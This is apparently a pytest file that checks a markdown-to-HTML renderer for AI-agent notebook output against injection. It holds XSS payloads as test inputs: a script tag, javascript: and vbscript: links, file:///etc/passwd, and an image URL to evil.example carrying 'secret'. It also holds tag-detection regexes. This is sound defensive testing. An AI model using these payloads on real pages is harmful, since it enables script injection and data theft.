from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hermes_nb.model.event import Event
from hermes_nb.views import html
from hermes_nb.views._bundle import bundle
from hermes_nb.views._markdown_safety import to_html
from tests.golden.logs import ALL, Log, load

TAGS = {
    "a",
    "b",
    "blockquote",
    "br",
    "code",
    "del",
    "details",
    "div",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "span",
    "strong",
    "style",
    "summary",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
}
ATTRIBUTES = {"align", "class", "dir", "href", "open", "rel", "start", "style", "target", "title"}


class Guard(HTMLParser):
    """Fails on any element, attribute or address that is not ours; checks that elements close."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.text = ""
        self.feed(markup)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES, name
            if name == "href":
                assert re.match(r"(?i)(https?:|mailto:|#|/[^/]|\.|[\w.-]+([/?#]|$))", value or "")
            if name == "style":
                assert re.fullmatch(r"padding-left:[\d.]+em|text-align:(left|right|center)", value or "")
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        assert tag in ("br", "hr")

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


@pytest.mark.parametrize("name", sorted(ALL))
def test_a_golden_log_gives_elements_of_ours_alone(name: str) -> None:
    Guard(html.render(load(name)))


def test_hostile_text_is_shown_as_text() -> None:
    guard = Guard(html.render(load("hostile")))
    assert "<script>document.title='pwned'</script>" in guard.text
    assert "<iframe srcdoc=" in guard.text


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="<>&\"'`![]()*_-|#:/\\ \nabcjst=?;$~", max_size=80))
def test_no_answer_brings_an_element_of_its_own(answer: str) -> None:
    Guard(to_html(answer))


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java&#115;cript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "//evil.example/x",
        "data:image/png;base64,AA",
        "\\tjavascript:alert(1)",
    ],
)
def test_only_web_links_are_live(address: str) -> None:
    assert "href" not in to_html(f"[x]({address}) <{address}>")


def test_links_of_the_web_open_elsewhere_and_tell_nothing() -> None:
    assert to_html("[x](https://example.org/a?b=1&c=2)") == (
        '<p dir="auto"><a href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">'
        "x</a></p>\n"
    )


def test_an_image_becomes_a_link_because_it_would_be_a_request() -> None:
    shown = to_html("![chart](https://evil.example/?q=secret)")
    assert "<img" not in shown
    assert 'href="https://evil.example/?q=secret"' in shown


def test_markdown_of_an_answer_is_rendered() -> None:
    shown = html.render(load("plain"))
    assert "<strong>Ada</strong>" in shown
    assert "<td" in shown
    assert "<code>df</code>" in shown


def test_tasks_have_boxes_breaks_break_and_text_runs_as_its_first_letter_does() -> None:
    shown = to_html("- [x] asked\n- [ ] next\n\n| a |\n|---|\n| one<br>two |\n\nשלום.")
    assert '<li dir="auto">☑ asked</li>' in shown
    assert '<li dir="auto">☐ next</li>' in shown
    assert re.search(r'<td dir="auto">one<br />\s*two</td>', shown)
    assert '<p dir="auto">שלום.</p>' in shown


def test_a_very_long_answer_is_shown_as_it_is() -> None:
    assert to_html("*x* " * 60_000).startswith("<pre>*x* *x*")


def test_a_replaced_attempt_has_no_answer_block() -> None:
    shown = html.render(load("two_attempts"))
    assert shown.count('class="hnb-prose hnb-answer') == 1


def test_nothing_is_nothing() -> None:
    assert html.render([]) == ""


def test_no_script_no_request_no_font() -> None:
    for name in ALL:
        shown = html.render(load(name))
        assert not re.search(r"<(script|img|link|iframe|object|embed)|url\(|@import|\son\w+=\"", shown)


def test_every_colour_of_the_front_end_has_a_fallback() -> None:
    assert all("," in use for use in re.findall(r"var\(--jp-[^)]*\)?", html.STYLE))


def test_a_bundle_has_the_three_forms() -> None:
    log = Log()
    log.turn("x")
    log.done("**Yes.**", ms=5.0, n_models=0, n_tools=0)
    made = bundle(log.events)
    assert list(made) == ["text/markdown", "text/html", "text/plain"]
    assert "<strong>Yes.</strong>" in made["text/html"]
    assert "**Yes.**" in made["text/markdown"]
    assert made["text/plain"].startswith("**Yes.**\n\n")


def test_a_bundle_is_valid_utf8() -> None:
    events = [Event.from_dict(e.to_dict()) for e in ALL["unicode"]()]
    for value in bundle(events).values():
        value.encode()


def test_a_bare_address_is_a_link_without_the_sentence_around_it() -> None:
    text = "See https://x.example/a_b(c), (https://y.example/). `https://z.example` [go](https://w.example) https:// javascript://x"
    made = to_html(text)
    assert re.findall(r'<a href="([^"]*)" rel="noopener noreferrer nofollow" target="_blank">(.*?)</a>', made) == [
        ("https://x.example/a_b(c)", "https://x.example/a_b(c)"),
        ("https://y.example/", "https://y.example/"),
        ("https://w.example", "go"),
    ]
    assert made.count("<a ") == 3
